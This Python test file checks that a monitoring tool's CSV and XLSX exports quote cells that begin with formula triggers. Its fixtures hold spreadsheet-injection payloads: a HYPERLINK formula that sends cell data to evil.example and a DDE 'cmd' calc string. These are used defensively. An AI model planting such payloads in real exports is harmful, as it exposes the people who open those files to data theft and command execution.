"""Exports never turn data into formulas (issue 11, item 4): the CLI's CSV and XLSX files.

An institution whose name begins with ``=``, ``+``, ``-`` or ``@`` is named at the
start of every alert message about it; before the fix ``monitor.xlsx`` wrote such
messages as live formulas and ``alerts.csv`` wrote them bare. The web's CSV exports
are checked in ``tests/web/test_safe_exports_web.py``.
"""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import openpyxl
import pyarrow as pa
import pytest

from builders import write
from jicai.contract.problems import Problem, write_problems
from jicai.engine.run import MonitorResult, run_monitor
from jicai.policy.profiles import Profile, parse_profile
from jicai.reports.monitor_files import write_csv, write_outputs
from jicai.spreadsheet import FORMULA_TRIGGERS, restore_text, safe_cell, safe_text, workbook
from jicai.warehouse.store import Warehouse
from parity_data import lapse_tables

CRAFTED = {
    "H1": "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
    "H2": "+cmd|' /C calc'!A0",
    "H3": "-2+3",
}
AT_COMPANY = "@SUM(1,2)"


def _all_rules() -> Profile:
    """The rules whose messages name an institution, with the rules.md defaults."""
    rules = {
        "progress.behind_schedule": {"tolerance": 0.0},
        "progress.incomplete_at_end": {},
        "share.nonwinning_high": {"threshold": 0.5},
        "order.unresponded_48h": {"hours": 48.0},
        "delivery.overdue": {"hours": 72.0},
        "payment.overdue": {},
    }
    return parse_profile({"profile": {"id": "crafted", "name": "测试"},
                          "calculation": {"backup_counts_as_winning": True},
                          "rules": {rid: {"clause": f"TEST {rid}", **cfg}
                                    for rid, cfg in rules.items()}}, "test:crafted")


def _run(tmp: Path, crafted: bool) -> MonitorResult:
    tables = lapse_tables()
    if crafted:
        for row in tables["institutions"]:
            row["name"] = CRAFTED.get(row["institution_code"], row["name"])
        tables["companies"][0]["name"] = AT_COMPANY
    w = Warehouse(tmp / "home")
    w.import_folder(write(tables, tmp / "data"))
    return run_monitor(w, date(2025, 10, 31), _all_rules(), engine="duckdb")


@pytest.fixture(scope="module")
def crafted_out(tmp_path_factory: pytest.TempPathFactory) -> tuple[MonitorResult, Path]:
    tmp = tmp_path_factory.mktemp("crafted")
    result = _run(tmp, crafted=True)
    write_outputs(result, tmp / "out")
    return result, tmp / "out"


def test_text_beginning_with_a_trigger_is_quoted_and_numbers_are_not() -> None:
    for trigger in "=+-@\t\r":
        assert safe_text(trigger + "1") == "'" + trigger + "1"
    assert frozenset("=+-@\t\r") == FORMULA_TRIGGERS
    assert safe_text("宛城区人民医院") == "宛城区人民医院"
    assert safe_text("a=b") == "a=b"  # only the first character matters
    assert safe_text("") == ""
    assert safe_text("'=1") == "''=1"  # already one apostrophe: one more, so it reads back
    assert safe_text("'ok") == "'ok"
    assert safe_cell(-3.5) == -3.5 and safe_cell(-2) == -2  # a negative number is no text
    for text in ["=1", "'=1", "''@x", "'", "''", "-", "x", "'x", "\t\r", "+", "北京"]:
        assert restore_text(safe_text(text)) == text


def test_alerts_csv_is_unchanged_byte_for_byte_for_ordinary_data(tmp_path: Path) -> None:
    table = pa.table({
        "name": ["宛城区人民医院", "O'Brien 诊所", None],
        "delta": [-1.5, 0.25, None],
        "units": [-3, 0, 7],
        "day": [date(2025, 1, 2), None, date(2025, 12, 31)],
        "flag": [True, False, None],
    })
    write_csv(table, tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_bytes() == (
        "name,delta,units,day,flag\n"
        "宛城区人民医院,-1.5,-3,2025-01-02,true\n"
        "O'Brien 诊所,0.25,0,,false\n"
        ",,7,2025-12-31,\n").encode()


def test_ordinary_monitor_files_hold_no_quote(tmp_path: Path) -> None:
    result = _run(tmp_path, crafted=False)
    write_outputs(result, tmp_path / "out", xlsx=False)
    text = (tmp_path / "out" / "alerts.csv").read_text(encoding="utf-8")
    assert result.alerts.num_rows >= 10
    assert all(not field.startswith("'") for row in csv.reader(text.splitlines())
               for field in row)
    messages = [row["message"] for row in csv.DictReader(text.splitlines())]
    assert any(m.startswith("宛城区人民医院") for m in messages)


def _crafted_start(value: str) -> bool:
    return value.startswith((*tuple(CRAFTED.values()), AT_COMPANY))


def test_crafted_names_go_out_quoted_in_every_csv(crafted_out: tuple[MonitorResult, Path]
                                                  ) -> None:
    result, out = crafted_out
    quoted = 0
    for path in sorted(out.glob("*.csv")):
        for row in csv.reader(path.read_text(encoding="utf-8").splitlines()):
            for field in row:
                assert not field or field[0] not in FORMULA_TRIGGERS, (path.name, field)
                if field.startswith("'") and _crafted_start(field[1:]):
                    quoted += 1
    messages = result.alerts.column("message").to_pylist()
    crafted = sum(1 for m in messages if _crafted_start(m))
    assert crafted == len(messages) >= 10  # every message begins with a crafted name
    assert quoted >= crafted


def test_crafted_names_are_no_formula_in_the_workbook(crafted_out: tuple[MonitorResult, Path]
                                                      ) -> None:
    result, out = crafted_out
    book = openpyxl.load_workbook(out / "monitor.xlsx")
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value[:1] in FORMULA_TRIGGERS:
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)
                    seen += 1
    # the value is kept exactly: every crafted message is in the alerts sheet as it is
    alerts = {cell.value for row in book["预警"].iter_rows(min_row=2) for cell in row}
    for m in result.alerts.column("message").to_pylist():
        assert m in alerts
    assert seen >= sum(1 for m in result.alerts.column("message").to_pylist()
                       if _crafted_start(m))


def test_the_workbook_factory_keeps_strings_and_urls_as_text(tmp_path: Path) -> None:
    book = workbook(tmp_path / "x.xlsx", {"strings_to_formulas": True, "strings_to_urls": True})
    sheet = book.add_worksheet("s")
    bold = book.add_format({"bold": True})
    book.write_row(sheet, 0, 0, ["=1+1", "http://evil.example", "-5", -5, "@x"], bold)
    sheet.write(1, 0, "=2+2")  # even a plain write: the options cannot be turned back on
    book.close()
    s = openpyxl.load_workbook(tmp_path / "x.xlsx")["s"]
    assert [c.value for c in s[1]] == ["=1+1", "http://evil.example", "-5", -5, "@x"]
    assert [c.data_type for c in s[1]] == ["s", "s", "s", "n", "s"]
    assert [c.quotePrefix for c in s[1]] == [True, False, True, False, True]
    assert s["A1"].font.b and s["C1"].font.b  # the quoted twin keeps the format
    assert s["A2"].data_type == "s" and s["A2"].hyperlink is None
    assert s["B1"].hyperlink is None


def test_the_problems_csv_quotes_a_bad_value(tmp_path: Path) -> None:
    problem = Problem(file="orders.csv", row=3, column="qty_packs", value="=1+2",
                      expected_zh="应为整数", expected_en="an integer", code="type")
    write_problems([problem], tmp_path / "problems.csv")
    rows = list(csv.reader((tmp_path / "problems.csv").read_text(encoding="utf-8-sig")
                           .splitlines()))
    assert rows[1][3] == "'=1+2"
